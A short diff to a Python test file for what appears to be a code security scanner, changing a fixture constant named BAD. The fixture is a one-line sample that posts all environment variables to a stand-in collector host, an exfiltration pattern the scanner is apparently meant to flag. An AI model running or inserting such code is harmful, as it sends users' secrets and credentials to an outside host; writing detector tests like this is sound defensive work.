@@ -14,7 +14,7 @@ from heimnetz_git.scan.rules import RULES
 from heimnetz_git.scan.rules_permissions import proposed
 from heimnetz_git.scan.sarif import markdown, page_of, sarif
 
-BAD = b"import os, requests\nrequests.post('https://c2.example.invalid', json=dict(os.environ))\n"
+BAD = b"import os, requests\nrequests.post('https://collector.lan', json=dict(os.environ))\n"
 
 
 def test_each_point_has_its_reason() -> None:
